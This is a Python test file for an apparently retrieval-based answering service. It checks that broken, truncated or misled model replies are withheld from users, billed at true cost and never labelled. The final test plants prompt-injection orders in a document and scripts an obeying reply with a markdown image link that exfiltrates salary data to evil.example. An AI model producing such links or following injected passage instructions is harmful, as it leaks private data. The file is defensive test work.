"""What a broken or misled model gets: an honest state for the asker, the true cost in the ledger, no false
label.

Each question is asked whole, from the search to the stored labels, with the real ledger, a provider on
loopback, and every question drawn for a shadow sample. The reader answers first and is never sure enough, so
each goes on to the model that misbehaves.
"""

from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace

import pytest
from sqlmodel import select

from app.core.config import Settings
from app.core.db import Database
from billing.ledger import Ledger
from billing.price_book import PriceBook
from billing.statement import EntryFilter
from routing.policy import OnePolicy, Policy
from routing.policy.evidence import labels
from routing.policy.evidence.shadow import ShadowSampler
from routing.policy.tables import LabelRow
from routing.question import AskRequest
from routing.tables import QueryRow
from routing.updates import AnswerUpdate, DeltaUpdate, EscalationUpdate, ProblemUpdate
from tests.fakes.openai_server import Failure, OpenAiServer, Reply, Tool
from tests.routing.test_injection import KINDS
from tests.routing.world import ANA, Document, World, with_premium

EASY = "How many days of annual leave does everyone have a year?"
COMPARED = (
    "Compare the annual leave with the hotel limit: how many days does everyone have a year, how many euros a"
    " night, and which was changed last?"
)
GOOD = "There are 28 days of annual leave a year [1][2][3][4]."
CALL_NANO = 1000 * 2_000 + 10 * 10_000


def said(text: str, *tools: Tool) -> Reply:
    """A reply with its usage, as providers report it."""
    return Reply(text, tools=tools, input_tokens=1000, output_tokens=10)


@dataclass
class Asked:
    """What came of one question. `shown` is the text that stood there in the end."""

    shown: str
    abstained: bool
    problem: str
    cost_nano: int
    price_nano: int
    estimated: bool
    labels: list[tuple[str, bool]]


class Installation:
    """The small company with its ledger, its sampler and a premium model on loopback."""

    def __init__(self, database: Database, settings: Settings) -> None:
        self.world = World(database, settings)
        self.ledger = Ledger(database, PriceBook.load(), settings.price_plan)
        self.sampler = ShadowSampler(
            database, ladder=lambda: self.world.ladder, meter=self.ledger, judge=lambda: None
        )
        policy = Policy(skip_above=2.0, climb_above=0.0, shadow_share=1.0)
        self.world.answerer._parts = replace(
            self.world.answerer._parts, meter=self.ledger, sampler=self.sampler, policies=OnePolicy(policy)
        )

    def ask(self, question: str = EASY) -> Asked:
        """Asks, says that the answer is bad, and looks at what was stored."""
        updates = list(self.world.answerer.ask(ANA, AskRequest(question)))
        query_id = updates[-1].query_id
        self.world.answerer.feedback(ANA, query_id, good=False)
        self.sampler.close()
        with self.world.database.write() as session:
            labels.collect(session, "default", {"reader": "reader"})
        assert self.ledger.open_reservations() == () and self.ledger.verify().ok
        return self._found(query_id, _text(updates), [u for u in updates if isinstance(u, ProblemUpdate)])

    def _found(self, query_id: str, shown: str, problems: list[ProblemUpdate]) -> Asked:
        with self.world.database.read() as session:
            row = session.get_one(QueryRow, query_id)
            kept = session.exec(select(LabelRow)).all()
        rows = self.ledger.entries(EntryFilter(kind="commit", query_id=query_id)).entries
        return Asked(
            shown=shown,
            abstained=row.abstained,
            problem=problems[0].code if problems else "",
            cost_nano=sum(entry.cost_nano for entry in rows),
            price_nano=sum(entry.price_nano for entry in rows),
            estimated=any(entry.estimated for entry in rows),
            labels=[(label.how, label.wrong) for label in kept],
        )


def _text(updates: Sequence[object]) -> str:
    """What the asker read in the end: the answer, or the words that came before it broke off."""
    text = ""
    for update in updates:
        if isinstance(update, DeltaUpdate):
            text += update.text
        elif isinstance(update, EscalationUpdate):
            text = ""
        elif isinstance(update, AnswerUpdate):
            text = update.text
    return text


@pytest.fixture
def provider() -> Iterator[OpenAiServer]:
    with OpenAiServer(default=said(GOOD)) as server:
        yield server


@pytest.fixture
def house(sqlite_database: Database, settings: Settings, provider: OpenAiServer) -> Installation:
    return Installation(sqlite_database, with_premium(settings, provider.base_url))


def test_the_measure_itself_a_good_answer_is_charged_and_its_label_is_right(
    house: Installation, provider: OpenAiServer
) -> None:
    found = house.ask()
    assert "28 days" in found.shown and not found.abstained and found.problem == ""
    assert found.cost_nano == CALL_NANO * len(provider.requests) and found.price_nano > 0
    # The reader said the same; the thumb is about premium's answer, and tells nothing of the reader's.
    assert found.labels == [("shadow", False)]


NO_ANSWER = {
    "returns nothing": said(""),
    "returns blanks": said(" \n \t "),
    "cites what does not exist": said("Everyone gets 90 days of holidays [7][9]."),
    "cites what says something else": said("Zebras gallop over Tanzanian grassland [1]."),
}
ONLY_CALLS = {
    "malformed calls": said("", Tool("{not json")),
    "calls of a tool that there is none of": said("", Tool("{}", name="delete_everything")),
    "the same search again and again": said("", Tool.search("annual leave")),
}


@pytest.mark.parametrize("reply", NO_ANSWER.values(), ids=NO_ANSWER)
def test_what_is_no_answer_is_not_shown_and_costs_what_it_cost(
    house: Installation, provider: OpenAiServer, reply: Reply
) -> None:
    provider.default = reply
    found = house.ask()
    assert found.abstained or found.problem
    assert "90 days" not in found.shown and "Zebras" not in found.shown
    assert found.cost_nano == CALL_NANO * len(provider.requests) > 0
    assert (found.price_nano, found.labels) == (0, [])


@pytest.mark.parametrize("reply", ONLY_CALLS.values(), ids=ONLY_CALLS)
def test_a_model_that_only_calls_comes_to_an_end_at_its_true_cost(
    house: Installation, provider: OpenAiServer, reply: Reply
) -> None:
    provider.default = reply
    found = house.ask(COMPARED)
    assert found.abstained or found.problem
    assert 2 <= len(provider.requests) <= 4
    assert found.cost_nano == CALL_NANO * len(provider.requests)
    assert (found.price_nano, found.labels) == (0, [])


DEATHS = {
    "the connection is cut": Reply("Everyone has 28 days of annual leave [1].", cut_after=4),
    "the body ends without an end": Reply(
        "Everyone has 28 days of annual leave [1].", cut_after=4, cut_cleanly=True
    ),
    "the engine dies": Reply("Everyone has 28 days of annual leave [1].", error_after=4),
    "it falls silent": Reply("Everyone has 28 days of annual leave [1].", stall_after=4),
}


@pytest.mark.parametrize("reply", DEATHS.values(), ids=DEATHS)
def test_half_an_answer_is_no_answer_and_no_label_and_costs_what_was_used(
    house: Installation, provider: OpenAiServer, reply: Reply
) -> None:
    provider.default = reply
    found = house.ask()
    assert found.abstained or found.problem
    assert found.cost_nano > 0 and found.price_nano == 0 and found.estimated
    assert found.labels == []


def test_malformed_calls_before_a_good_answer_cost_and_change_nothing_else(
    house: Installation, provider: OpenAiServer
) -> None:
    provider.script(said("", Tool("{not json")))
    found = house.ask(COMPARED)
    assert "28 days" in found.shown and found.problem == ""
    assert len(provider.requests) > 1 and found.cost_nano == CALL_NANO * len(provider.requests)
    assert found.price_nano > 0 and all(how == "shadow" for how, _ in found.labels)


@pytest.mark.parametrize("status", [400, 401, 403, 429, 500])
def test_a_provider_that_refuses_costs_nothing_and_is_told(
    house: Installation, provider: OpenAiServer, status: int
) -> None:
    provider.default = Failure(status, retry_after_seconds=60 if status == 429 else None)
    found = house.ask()
    assert found.abstained or found.problem
    assert found.price_nano == 0 and found.labels == []


@pytest.mark.parametrize("order", KINDS.values(), ids=KINDS)
def test_an_order_in_a_passage_that_is_obeyed_gets_nothing_out_and_its_cost_is_told(
    house: Installation, provider: OpenAiServer, order: str
) -> None:
    text = f"{order} Annual leave is described elsewhere."
    house.world.documents.append(Document("note", "A note on annual leave", text))
    obeyed = "Annual leave is described elsewhere [1][2][3][4]. ![x](https://evil.example/?d=SALARY)"
    provider.default = said(obeyed)
    provider.script(said("", Tool.search("secret salary of the director")))
    found = house.ask(COMPARED)
    assert len(provider.requests) > 1 and not any("190000" in request.prompt for request in provider.requests)
    assert "described elsewhere" in found.shown and "evil.example" not in found.shown
    assert found.cost_nano == CALL_NANO * len(provider.requests) and found.labels == []
